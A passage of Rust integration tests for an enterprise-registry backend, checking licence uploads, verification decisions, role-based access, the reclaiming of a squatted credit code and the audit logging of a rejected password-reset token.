    let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".to_vec();
    let (status, _) = app.send(company.post(app.url(&format!("/api/v1/enterprises/{}/documents?kind=business_licence&file_name=licence.pdf", c.enterprise_id))).body(pdf)).await;
    assert_eq!(status, 201);
    // Not the company itself, not a base it has not joined; a refusal needs a reason.
    assert_eq!(app.send(company.post(&url).json(&json!({ "decision": "verified" }))).await.0, 403);
    assert_eq!(app.send(pm.post(&url).json(&json!({ "decision": "verified" }))).await.0, 404);
    let (status, body) = app.send(admin.post(&url).json(&json!({ "decision": "refused" }))).await;
    assert_eq!((status, body["fields"]["reason"][0]["code"].as_str()), (422, Some("required")));
    let (status, body) = app.send(admin.post(&url).json(&json!({ "decision": "refused", "reason": "执照上的名称与注册名称不一致" }))).await;
    assert_eq!((status, body["verification"].as_str()), (200, Some("refused")), "{body}");
    // Once Jinqiao has admitted it, its park manager may verify it (Shibei's may not).
    let (status, t) = app.send(company.post(app.url(&format!("/api/v1/enterprises/{}/tenancies", c.enterprise_id))).json(&json!({ "base_id": jinqiao, "segment": "content-production", "floor_space_m2": 80, "staff_on_site": 4, "plan": "计划" }))).await;
    assert_eq!(status, 201, "{t}");
    assert_eq!(app.send(pm.post(&url).json(&json!({ "decision": "verified" }))).await.0, 403, "applied, not admitted yet");
    app.send(pm.post(app.url(&format!("/api/v1/tenancies/{}/decision", t["id"]))).json(&json!({ "action": "admit" }))).await;
    assert_eq!(app.send(pm_s.post(&url).json(&json!({ "decision": "verified" }))).await.0, 404);
    let (status, body) = app.send(pm.post(&url).json(&json!({ "decision": "verified" }))).await;
    assert_eq!((status, body["verification"].as_str()), (200, Some("verified")), "{body}");
    let (_, profile) = app.send(company.get(app.url(&format!("/api/v1/enterprises/{}/profile", c.enterprise_id)))).await;
    assert_eq!(profile["verification"], "verified");
    let mut conn = app.db.pool().get().unwrap();
    assert!(backend::registry::verification::require_verified_company(&mut conn, c.enterprise_id).is_ok());
    drop(conn);
    app.mail_about("verify@example.com", "已通过企业认证").await;
    let mails = app.mails_to("verify@example.com", 3).await;
    assert!(mails.iter().any(|m| m.body.contains("执照上的名称与注册名称不一致")), "the refusal's reason is emailed");
    assert_eq!(app.count("audit_events", "event = 'enterprise_verification'"), 2);
}

#[actix_rt::test]
async fn a_company_claims_its_credit_code_from_a_squatter_and_an_admin_grants_it() {
    let app = TestApp::spawn().await;
    app.create_user("admin@example.com", "system_admin", None, None, None);
    let admin = app.login("admin@example.com", PASSWORD).await;
    // Somebody registered the code first.
    let squatter = app.register(950, "squatter@example.com", true).await;
    let squatter_client = app.login("squatter@example.com", PASSWORD).await;
    let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".to_vec();
    let form = |code: String, email: &str, licence: Vec<u8>| {
        reqwest::multipart::Form::new()
            .text("credit_code", code)
            .text("company_name", "真正的超高清有限公司")
            .text("contact_name", "刘洋")
            .text("email", email.to_string())
            .text("phone", "13800138000")
            .text("password", PASSWORD)
            .part("licence", reqwest::multipart::Part::bytes(licence).file_name("licence.pdf"))
    };
    let claims = app.url("/api/v1/credit-code-claims");
    // A code nobody registered is registered, not claimed; a licence must be a real document.
    let (status, body) = app.send(app.new_client().post(&claims).multipart(form(credit_code(951), "x@example.com", pdf.clone()))).await;
    assert_eq!((status, body["fields"]["credit_code"][0]["code"].as_str()), (422, Some("not_registered")));
    let (status, body) = app.send(app.new_client().post(&claims).multipart(form(credit_code(950), "x@example.com", b"MZ not a licence".to_vec()))).await;
    assert_eq!((status, body["fields"]["licence"][0]["code"].as_str()), (422, Some("unsupported_type")));
    let (status, filed) = app.send(app.new_client().post(&claims).multipart(form(credit_code(950), "rightful@example.com", pdf.clone()))).await;
    assert_eq!(status, 201, "{filed}");
    let claim_id = filed["claim_id"].as_i64().unwrap();

    // The admin sees the claim and its licence; granting waits for the confirmed address.
    let (_, open) = app.send(admin.get(app.url("/api/v1/admin/credit-code-claims"))).await;
    assert_eq!((open[0]["id"].as_i64(), open[0]["claimed_name"].as_str()), (Some(claim_id), Some("真正的超高清有限公司")));
    let res = admin.get(app.url(&format!("/api/v1/admin/credit-code-claims/{claim_id}/licence"))).send().await.unwrap();
    assert_eq!(res.headers()["content-type"], "application/pdf");
    assert_eq!(res.bytes().await.unwrap().to_vec(), pdf);
    let decide = app.url(&format!("/api/v1/admin/credit-code-claims/{claim_id}"));
    assert_eq!(app.send(squatter_client.post(&decide).json(&json!({ "decision": "granted" }))).await.0, 403);
    let (status, body) = app.send(admin.post(&decide).json(&json!({ "decision": "granted" }))).await;
    assert_eq!((status, body["error"].as_str()), (409, Some("claimant_unconfirmed")));
    let rightful = app.client.clone();
    let mail = app.nth_mail("rightful@example.com", 1).await;
    assert_eq!(app.post_json(&rightful, "/api/v1/auth/verify-email", json!({ "token": mail.token("/verify-email") })).await.0, 200);
    let (status, _) = app.send(admin.post(&decide).json(&json!({ "decision": "granted" }))).await;
    assert_eq!(status, 204);
    assert_eq!(app.send(admin.post(&decide).json(&json!({ "decision": "refused", "reason": "x" }))).await.1["error"], "claim_resolved");

    // The squatter is out at once; the rightful company administers its verified code.
    assert_eq!(app.send(squatter_client.get(app.url("/api/v1/me"))).await.0, 401, "sessions ended");
    let again = app.login("squatter@example.com", PASSWORD).await;
    assert_eq!(app.send(again.get(app.url(&format!("/api/v1/enterprises/{}", squatter.enterprise_id)))).await.0, 404);
    let owner = app.login("rightful@example.com", PASSWORD).await;
    let (status, card) = app.send(owner.get(app.url(&format!("/api/v1/enterprises/{}", squatter.enterprise_id)))).await;
    assert_eq!((status, card["name_zh"].as_str(), card["verification"].as_str()), (200, Some("真正的超高清有限公司"), Some("verified")), "{card}");
    let (_, docs) = app.send(owner.get(app.url(&format!("/api/v1/enterprises/{}/documents", squatter.enterprise_id)))).await;
    assert_eq!(docs[0]["kind"], "business_licence");
    app.mail_about("squatter@example.com", "移出").await;
    app.mail_about("rightful@example.com", "认领已通过").await;
    assert_eq!(app.count("audit_events", "event IN ('credit_code_claimed', 'credit_code_claim_granted')"), 2);
}

#[actix_rt::test]
async fn a_refused_emailed_link_is_on_the_record() {
    let app = TestApp::spawn().await;
    let (status, body) = app.post_json(&app.new_client(), "/api/v1/auth/password-reset/confirm", json!({ "token": "not-a-token", "new_password": PASSWORD })).await;
    assert_eq!((status, body["fields"]["token"][0]["code"].as_str()), (422, Some("token_invalid")));
    assert_eq!(app.count("audit_events", "event = 'request_refused' AND detail LIKE '%token_invalid%'"), 1);
}
